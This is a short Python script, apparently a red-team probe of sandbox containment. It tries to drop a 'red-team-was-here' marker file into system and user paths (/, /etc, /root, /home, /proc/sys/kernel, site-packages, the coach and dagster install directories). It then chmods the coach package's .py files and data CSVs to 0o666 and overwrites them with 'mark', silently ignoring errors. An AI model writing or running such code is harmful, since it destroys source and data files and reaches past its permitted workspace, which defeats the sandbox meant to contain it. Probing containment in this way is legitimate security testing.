"""Marks in every place that is not its own."""

import os
import sys
import sysconfig
from pathlib import Path

import coach
import dagster

places = [Path(coach.__file__).parent, Path(coach.__file__).parents[2], Path(dagster.__file__).parent, Path(sys.prefix)]
places += [Path("/tmp"), Path("/var/tmp"), Path("/"), Path("/usr"), Path("/etc"), Path("/root"), Path("/home"), Path.home().parents[1]]
places += [Path(sysconfig.get_path("purelib")), Path("/proc/sys/kernel")]
for place in places:
    try:
        (place / "red-team-was-here").write_text("mark")
    except OSError:
        pass
for file in (*Path(coach.__file__).parent.glob("*.py"), *Path(coach.__file__).parents[2].glob("data/*.csv")):
    try:
        os.chmod(file, 0o666)
        file.write_text("mark")
    except OSError:
        pass
